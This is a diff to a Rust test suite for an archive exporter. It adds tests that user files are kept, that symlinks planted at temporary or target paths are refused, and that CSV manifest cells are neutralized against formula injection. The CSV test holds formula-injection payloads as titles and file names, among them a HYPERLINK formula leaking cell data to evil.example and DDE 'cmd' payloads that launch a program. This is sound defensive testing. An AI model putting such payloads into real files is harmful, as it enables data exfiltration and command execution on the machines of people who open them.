@@ -434,7 +434,18 @@ fn manifest_rows(jsonl: &[u8], csv: &[u8]) -> Vec<Row> {
             }
         })
         .collect();
-    assert_eq!(rows, from_csv, "manifest.csv and manifest.jsonl differ");
+    // The CSV holds each value with OWASP's `'` before a cell that could start a formula.
+    let want_csv: Vec<Row> = rows
+        .iter()
+        .map(|r| Row {
+            source: neutral(&r.source),
+            exported: neutral(&r.exported),
+            title: neutral(&r.title),
+            date: neutral(&r.date),
+            sha256: neutral(&r.sha256),
+        })
+        .collect();
+    assert_eq!(want_csv, from_csv, "manifest.csv and manifest.jsonl differ");
     rows
 }
 
@@ -2390,4 +2401,318 @@ fn a_member_edited_then_moved_stays_in_its_collection() {
     index(dir);
     let (paths, missing) = show(dir, "One");
     assert_eq!((paths, missing), (vec![moved.to_string()], vec![]));
+}
+
+// ---------------------------------------------------------------------------------------------
+// Hostile targets (issue 10, finding 7): every file an export writes follows the conflict rule,
+// temporary files are never written through a symlink, and the CSV holds no formula.
+// ---------------------------------------------------------------------------------------------
+
+/// The paths of a summary's conflicts, sorted.
+fn conflict_paths(s: &Value) -> Vec<String> {
+    let mut v: Vec<String> = s["conflicts"]
+        .as_array()
+        .map(|a| {
+            a.iter()
+                .filter_map(|c| c["path"].as_str().map(str::to_string))
+                .collect()
+        })
+        .unwrap_or_default();
+    v.sort();
+    v
+}
+
+#[test]
+fn the_users_index_and_manifests_are_kept_without_overwrite() {
+    let f = news_archive();
+    index(f.path());
+    let tmp = tempfile::tempdir().expect("temp dir");
+    let out = tmp.path().join("out");
+    std::fs::create_dir_all(&out).expect("mkdir");
+    let mine: [(&str, &str); 3] = [
+        ("index.html", "<p>my own index</p>\n"),
+        ("manifest.csv", "my,own,csv\n1,2,3\n"),
+        ("manifest.jsonl", "{\"my\": \"own jsonl\"}\n"),
+    ];
+    for (name, text) in mine {
+        std::fs::write(out.join(name), text).expect("write");
+    }
+    let want: Vec<String> = mine.iter().map(|(n, _)| n.to_string()).collect();
+    let unchanged = |what: &str| {
+        for (name, text) in mine {
+            assert_eq!(
+                std::fs::read_to_string(out.join(name)).ok().as_deref(),
+                Some(text),
+                "{what}: the user's {name} was replaced"
+            );
+        }
+    };
+    let s = export(f.path(), &out, &["--query", "", "--format", "html"]);
+    assert_eq!(conflict_paths(&s), want, "{}", brief(&s));
+    assert_eq!(s["written"], 6, "{}", brief(&s));
+    unchanged("first export");
+    // Again: still the user's.
+    let s = export(f.path(), &out, &["--query", "", "--format", "html"]);
+    assert_eq!(conflict_paths(&s), want, "{}", brief(&s));
+    unchanged("second export");
+    // A copy export keeps them too (it writes no index.html at all).
+    let copies = tmp.path().join("copies");
+    std::fs::create_dir_all(&copies).expect("mkdir");
+    for (name, text) in &mine[1..] {
+        std::fs::write(copies.join(name), text).expect("write");
+    }
+    let s = export(f.path(), &copies, &["--query", ""]);
+    assert_eq!(conflict_paths(&s), want[1..].to_vec(), "{}", brief(&s));
+    // With --overwrite they are replaced; from then on they are the export's own, and a
+    // re-export updates them without --overwrite.
+    let s = export(
+        f.path(),
+        &out,
+        &["--query", "", "--format", "html", "--overwrite"],
+    );
+    assert_clean(&s, 6);
+    check_folder(f.path(), &out, 6, Format::Html, "after --overwrite");
+    let s = export(f.path(), &out, &["--query", "", "--format", "html"]);
+    assert_clean(&s, 6);
+    assert_eq!(s["unchanged"], 6, "{}", brief(&s));
+    json(
+        f.path(),
+        &["tag", "add", "新", "_posts/2021-03-05-vaccine.md"],
+    );
+    let s = export(f.path(), &out, &["--query", "", "--format", "html"]);
+    assert_clean(&s, 6);
+    assert_eq!(s["updated"], 1, "{}", brief(&s));
+    check_folder(f.path(), &out, 6, Format::Html, "re-export");
+    // A manifest the user edited is theirs: kept, and no longer trusted to say which files the
+    // export wrote.
+    let jsonl = read(&out.join("manifest.jsonl"));
+    let mut edited = jsonl.clone();
+    edited.extend_from_slice(b"{\"note\": \"mine\"}\n");
+    std::fs::write(out.join("manifest.jsonl"), &edited).expect("write");
+    let s = export(f.path(), &out, &["--query", "", "--format", "html"]);
+    assert_eq!(conflict_paths(&s), ["manifest.jsonl"], "{}", brief(&s));
+    assert_eq!(read(&out.join("manifest.jsonl")), edited);
+}
+
+/// Entries of `dir` whose name holds `shelfmark` (temporary files left behind).
+fn leftovers(dir: &Path) -> Vec<String> {
+    entries(dir)
+        .into_iter()
+        .map(|n| text(&n))
+        .filter(|n| n.contains("shelfmark") || n.ends_with(".tmp"))
+        .collect()
+}
+
+/// An indexed news archive, and a folder `out` with a file `victim.txt` beside it.
+fn zip_setup() -> (Fixture, tempfile::TempDir, PathBuf, PathBuf) {
+    let f = news_archive();
+    index(f.path());
+    let tmp = tempfile::tempdir().expect("temp dir");
+    let out = tmp.path().join("out");
+    std::fs::create_dir_all(&out).expect("mkdir");
+    let victim = tmp.path().join("victim.txt");
+    std::fs::write(&victim, "victim").expect("write");
+    (f, tmp, out, victim)
+}
+
+#[test]
+fn the_zip_is_not_written_through_a_symlink_at_its_old_temporary_name() {
+    let (f, _tmp, out, victim) = zip_setup();
+    // A symlink where the zip's temporary file used to go (a fixed name).
+    let planted = out.join(".z.zip.shelfmark.tmp");
+    std::os::unix::fs::symlink(&victim, &planted).expect("symlink");
+    let zip = out.join("z.zip");
+    let s = export(f.path(), &zip, &["--query", "", "--zip"]);
+    assert_eq!(s["written"], 6, "{}", brief(&s));
+    assert_eq!(
+        text(&read(&victim)).get(..6),
+        Some("victim"),
+        "written through the planted symlink"
+    );
+    assert!(
+        std::fs::symlink_metadata(&zip).is_ok_and(|m| m.file_type().is_file()),
+        "the zip is not a plain file"
+    );
+    assert_eq!(zip_entries(&zip).len(), 8);
+    assert!(
+        std::fs::symlink_metadata(&planted).is_ok_and(|m| m.file_type().is_symlink()),
+        "the planted symlink was moved"
+    );
+    assert_eq!(leftovers(&out), [".z.zip.shelfmark.tmp"]);
+}
+
+#[test]
+fn a_zip_target_that_is_a_symlink_is_refused() {
+    // A symlink to a file, or dangling: refused, even with --overwrite.
+    let (f, tmp, out, victim) = zip_setup();
+    let absent = tmp.path().join("absent.zip");
+    for (name, to) in [("y.zip", &victim), ("d.zip", &absent)] {
+        let link = out.join(name);
+        std::os::unix::fs::symlink(to, &link).expect("symlink");
+        for extra in [&[][..], &["--overwrite"][..]] {
+            let mut args = vec!["export", "--query", "", "--zip", "--to", p(&link)];
+            args.extend(extra);
+            let err = fails(f.path(), &args);
+            assert!(err.contains("symlink"), "{name} {extra:?}: {err}");
+            assert!(
+                std::fs::symlink_metadata(&link).is_ok_and(|m| m.file_type().is_symlink()),
+                "{name} {extra:?}: the symlink was replaced"
+            );
+        }
+    }
+    assert_eq!(
+        text(&read(&victim)).get(..6),
+        Some("victim"),
+        "written through the target symlink"
+    );
+    assert!(!absent.exists(), "written through the dangling symlink");
+    assert_eq!(leftovers(&out), Vec::<String>::new());
+}
+
+/// What OWASP's advice makes of a CSV cell (computed here, not by the exporter): a cell that
+/// begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`.
+fn neutral(cell: &str) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell.to_string()
+    }
+}
+
+#[test]
+fn manifest_csv_cells_are_never_formulas_and_the_jsonl_keeps_exact_values() {
+    let titles = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=1,\"2\";=3",
+        "plain title",
+    ];
+    let names = [
+        "=SUM(1+1).md",
+        "+1.md",
+        "-x.md",
+        "@x.md",
+        "\tx.md",
+        "\rx.md",
+        "plain.md",
+    ];
+    let mut files: Vec<(String, Vec<u8>)> = Vec::new();
+    for (i, t) in titles.iter().enumerate() {
+        files.push((
+            format!("_posts/t{i}.md"),
+            hostile_post(t, Some("2021-01-02"), "", "<p>x</p>"),
+        ));
+    }
+    for (i, n) in names.iter().enumerate() {
+        files.push((
+            n.to_string(),
+            hostile_post(&format!("named {i}"), None, "", "<p>y</p>"),
+        ));
+    }
+    let refs: Vec<(&str, &[u8])> = files.iter().map(|(n, b)| (n.as_str(), &b[..])).collect();
+    let f = Fixture::new(&refs);
+    index(f.path());
+    let tmp = tempfile::tempdir().expect("temp dir");
+    let out = tmp.path().join("out");
+    let s = export(f.path(), &out, &["--query", ""]);
+    assert_clean(&s, files.len());
+
+    // The JSONL, parsed on its own, holds the exact values.
+    let jsonl = text(&read(&out.join("manifest.jsonl")));
+    let json_rows: Vec<Vec<String>> = jsonl
+        .lines()
+        .map(|l| {
+            let v: Value = serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}"));
+            ["source", "exported", "title", "date", "sha256"]
+                .iter()
+                .map(|k| v[k].as_str().unwrap_or("").to_string())
+                .collect()
+        })
+        .collect();
+    let sources: BTreeSet<&str> = json_rows.iter().map(|r| r[0].as_str()).collect();
+    let want: BTreeSet<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
+    assert_eq!(sources, want);
+    let got_titles: BTreeSet<&str> = json_rows.iter().map(|r| r[2].as_str()).collect();
+    for t in titles {
+        assert!(got_titles.contains(t), "{t:?} not exact in the JSONL");
+    }
+
+    // The CSV, parsed on its own: no cell begins like a formula, and each is its JSONL value
+    // with OWASP's `'` where needed.
+    let csv = parse_csv(&text(&read(&out.join("manifest.csv"))));
+    assert_eq!(csv.len(), json_rows.len() + 1);
+    let mut neutralized = 0;
+    for (c, j) in csv[1..].iter().zip(&json_rows) {
+        for (cell, value) in c.iter().zip(j) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a CSV cell begins like a formula: {cell:?}"
+            );
+            assert_eq!(cell, &neutral(value));
+            neutralized += usize::from(cell != value);
+        }
+    }
+    // Five titles, six names (as source and, mostly, as exported path).
+    assert!(neutralized >= 5 + 6, "{neutralized} cells neutralized");
+    read_manifest(&out);
+}
+
+#[test]
+fn posts_with_names_of_240_to_255_bytes_export_byte_identical() {
+    // 3-byte characters: 79 make a 240-byte name with `.md`, 84 a 255-byte one.
+    let files: Vec<(String, Vec<u8>)> = [79, 80, 81, 82, 83, 84]
+        .iter()
+        .map(|&k| {
+            let name = format!("{}.md", "中".repeat(k));
+            assert!((240..=255).contains(&name.len()), "{}", name.len());
+            let dir = if k % 2 == 0 { "长/" } else { "" };
+            (
+                format!("{dir}{name}"),
+                hostile_post(&format!("long {k}"), Some("2021-05-06"), "", "<p>中</p>"),
+            )
+        })
+        .collect();
+    let refs: Vec<(&str, &[u8])> = files.iter().map(|(n, b)| (n.as_str(), &b[..])).collect();
+    let f = Fixture::new(&refs);
+    let s = index(f.path());
+    assert_eq!(s["indexed"], files.len() as u64, "{s}");
+    let tmp = tempfile::tempdir().expect("temp dir");
+    let out = tmp.path().join("out");
+    let s = export(f.path(), &out, &["--query", ""]);
+    assert_clean(&s, files.len());
+    check_folder(f.path(), &out, files.len(), Format::Copy, "long names");
+    let rows = read_manifest(&out);
+    let by_source: HashMap<&str, &str> = rows
+        .iter()
+        .map(|r| (r.source.as_str(), r.exported.as_str()))
+        .collect();
+    for (name, bytes) in &files {
+        let exported = by_source
+            .get(name.as_str())
+            .unwrap_or_else(|| panic!("{name} not exported"));
+        assert_eq!(&read(&out.join(exported)), bytes, "{name}");
+    }
+    // Again, into the same folder: all unchanged.
+    let s = export(f.path(), &out, &["--query", ""]);
+    assert_clean(&s, files.len());
+    assert_eq!(s["unchanged"], files.len() as u64, "{}", brief(&s));
+    // Rewritten copies (a temporary beside each) and a zip.
+    let rw = tmp.path().join("rw");
+    let s = export(f.path(), &rw, &["--query", "", "--set", "x=1"]);
+    assert_clean(&s, files.len());
+    let zip = tmp.path().join("long.zip");
+    let s = export(f.path(), &zip, &["--query", "", "--zip"]);
+    assert_eq!(s["written"], files.len() as u64, "{}", brief(&s));
+    let entries = zip_entries(&zip);
+    let rows = manifest_rows(&entries["manifest.jsonl"], &entries["manifest.csv"]);
+    assert_eq!(rows.len(), files.len());
+    for (name, bytes) in &files {
+        let r = rows
+            .iter()
+            .find(|r| &r.source == name)
+            .unwrap_or_else(|| panic!("{name} not in the zip's manifest"));
+        assert_eq!(entries.get(&r.exported), Some(bytes), "{name} in the zip");
+    }
 }
